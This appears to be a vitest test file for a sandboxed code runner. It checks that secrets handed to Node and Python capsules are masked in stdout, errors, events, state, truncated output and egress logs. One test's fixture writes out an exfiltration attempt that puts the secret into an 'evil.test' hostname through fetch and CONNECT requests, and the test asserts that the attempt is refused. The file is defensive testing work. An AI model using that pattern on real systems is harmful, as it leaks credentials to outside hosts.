import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { AddressRules } from '#runner/egress/addresses';

import { SandboxWorld } from '../support/sandbox-world.ts';
import type { RunOptions } from '../support/some-run.ts';

const SECRET = 'pa"ss/word +1\nén';
let world: SandboxWorld;
beforeAll(async () => {
  world = await SandboxWorld.start({
    addresses: new AddressRules([]),
    resolve: () => Promise.reject(new Error('none')),
  });
});
afterAll(async () => {
  await world.close();
});

/** No form of the value, and no part of it that is long enough to mean something. */
function expectNoTrace(spoolText: string): void {
  const traces = [SECRET, 'ss/word', 'ss\\/word', 'ss%2Fword', Buffer.from(SECRET).toString('base64').slice(0, 12)];
  expect(traces.filter((trace) => spoolText.includes(trace))).toEqual([]);
}

const NODE = `import { writeSync } from 'node:fs';
export default async function (input, soma) {
  const secret = soma.secret('KEY');
  console.log('plain ' + secret + ' end');
  console.error(Buffer.from(secret).toString('base64'), encodeURIComponent(secret), JSON.stringify(secret));
  for (const byte of Buffer.from(secret)) {
    writeSync(1, Buffer.from([byte]));
    await new Promise((resolve) => setTimeout(resolve, 8));
  }
  writeSync(1, '.');
  soma.event('seen ' + secret.slice(0, 4), { [secret]: ['x' + secret] });
  if (input === 'throw') throw new Error('it failed with ' + secret);
  if (input === 'long') throw new Error('x'.repeat(960) + secret.repeat(10));
  if (input === 'nonsense') writeSync(3, 'x' + JSON.stringify(secret) + '\\n');
  return { header: 'Basic ' + Buffer.from('user:' + secret).toString('base64'), length: secret.length };
}
`;
const PYTHON = `import base64, json, sys, urllib.parse
def main(input, soma):
    secret = soma.secret("KEY")
    print("plain", secret, "end")
    print(json.dumps(secret), urllib.parse.quote(secret), urllib.parse.quote_plus(secret), file=sys.stderr)
    print(base64.urlsafe_b64encode(secret.encode()).decode(), end=".")
    soma.event("seen", {secret: ["x" + secret]})
    if input == "throw":
        raise ValueError("it failed with " + secret)
    return {"header": "Basic " + base64.b64encode(b"user:" + secret.encode()).decode(), "length": len(secret)}
`;

const RUNTIMES: [string, Record<string, string>, RunOptions][] = [
  ['node24', { 'main.mjs': NODE }, {}],
  ['python3.11', { 'main.py': PYTHON }, { runtime: 'python3.11' }],
];

test.each(RUNTIMES)(
  '%s: what a capsule says of a secret is masked before it is written down',
  async (_, files, options) => {
    const { output, stdout, frames, spoolText } = await world.run(files, { ...options, secrets: { KEY: SECRET } });
    expectNoTrace(spoolText);
    expect(stdout).toMatch(/^plain \*\*\* end\n.*\.$/s);
    expect(output).toMatchObject({
      header: expect.stringMatching(/^Basic dXNlcj.\*\*\*.{0,4}$/),
      length: SECRET.length,
    });
    expect(frames.find(({ kind }) => kind === 'event')).toMatchObject({ data: { '***': ['x***'] } });
  },
);

test.each(RUNTIMES)('%s: an error that quotes a secret does not tell it', async (_, files, options) => {
  const thrown = await world.run(files, { ...options, secrets: { KEY: SECRET }, input: 'throw' });
  expectNoTrace(thrown.spoolText);
  expect(thrown.end.outcome).toMatchObject({
    cause: 'uncaught',
    detail: expect.stringContaining('it failed with ***'),
  });
});

test.each(['long', 'nonsense'])(
  'a message that is cut off in a secret does not show its beginning (%s)',
  async (input) => {
    const { spoolText, end } = await world.run({ 'main.mjs': NODE }, { secrets: { KEY: SECRET }, input });
    expectNoTrace(spoolText);
    expect(spoolText).not.toContain('pa\\\\"ss');
    expect(end.outcome.state).toBe('failed');
  },
);

describe('a value that can be a name is masked as one:', () => {
  const NAME = 'Correct-Horse.9';
  const TRACE = /orrect-?h|Q29ycmVjd|q29ycmvjd/i;
  const leaking = (body: string) => ({
    'main.mjs': `import { writeSync } from 'node:fs';
import net from 'node:net';
export default async (input, soma) => { const secret = soma.secret('KEY'); ${body}; return null; };`,
  });

  test('events, rows, keys and values of the state', async () => {
    const files = leaking(`soma.event('e ' + secret, { [secret]: secret });
      soma.dataset('rows').push({ [secret]: [secret] });
      soma.state.set(secret, secret);
      soma.state.set('kept', { [secret]: 1 });
      soma.state.delete('old' + secret)`);
    const { spoolText, frames, claims, end } = await world.run(files, {
      secrets: { KEY: NAME },
      datasets: ['rows'],
      state: { revision: 1, entries: {} },
    });
    expect(end.outcome.state).toBe('succeeded');
    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
    const said = frames.filter(({ kind }) => ['event', 'row', 'state'].includes(kind));
    expect(said).toMatchObject([
      { kind: 'event', name: 'e ***', data: { '***': '***' } },
      { kind: 'row', dataset: 'rows', data: { '***': ['***'] } },
      { kind: 'state', change: { key: '***', value: '***' } },
      { kind: 'state', change: { key: 'kept', value: { '***': 1 } } },
      { kind: 'state', change: { key: 'old***', isDeleted: true } },
    ]);
  });

  test.each([
    [
      'a data set it may not fill',
      `writeSync(3, JSON.stringify({ dataset: secret, row: 1 }) + '\\n')`,
      'output_invalid',
    ],
    ['a meter it does not have', 'soma.usage(secret, 1)', 'meter_limit'],
    ['a file in /out', `soma.artifact(secret, 'x')`, 'artifact_invalid'],
    ['a folder in /out', `soma.artifact('a/' + secret + '/b', 'x')`, 'artifact_invalid'],
  ])('%s', async (_, body, cause) => {
    const { spoolText, claims, end, left } = await world.run(leaking(body), {
      secrets: { KEY: NAME },
      artifacts: true,
    });
    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
    expect([end.outcome.cause, left]).toEqual([cause, {}]);
  });

  test('hosts it tries to reach, whose names are written in small letters', async () => {
    const files = leaking(`const tried = [secret + '.evil.test:443', 'x'.repeat(250) + secret];
      await fetch('https://' + secret + '.evil.test/').catch(() => undefined);
      for (const target of tried) await new Promise((resolve) => {
        const socket = net.connect('/run/soma/egress', () => socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'));
        socket.on('data', () => socket.destroy()).on('close', resolve);
      })`);
    const { spoolText, claims, egress } = await world.run(files, { secrets: { KEY: NAME }, egress: ['a.test:443'] });
    expect(`${spoolText}${JSON.stringify(claims)}`).not.toMatch(TRACE);
    expect(egress?.rows.map(({ target, refusal }) => [target, refusal])).toEqual([
      ['***.evil.test:443', 'not_granted'],
      [`${'x'.repeat(250)}***`, 'malformed'],
    ]);
    expect(claims.egress?.targets.map(({ target, refused }) => [target, refused])).toContainEqual([
      '***.evil.test:443',
      2,
    ]);
  });
});

test('output that is cut off at its limit in a secret does not show its beginning', async () => {
  const secret = 'abcdefghij'.repeat(100);
  const files = {
    'main.mjs': `export default (_, soma) => { console.log('x'.repeat(100) + soma.secret('KEY') + 'y'.repeat(5000)); return 1; };`,
  };
  const { stdout, end } = await world.run(files, { secrets: { KEY: secret }, resources: { outputBytes: 1_024 } });
  expect(end.outcome.cause).toBe('output_limit');
  expect(stdout).toBe(`${'x'.repeat(100)}***`);
});
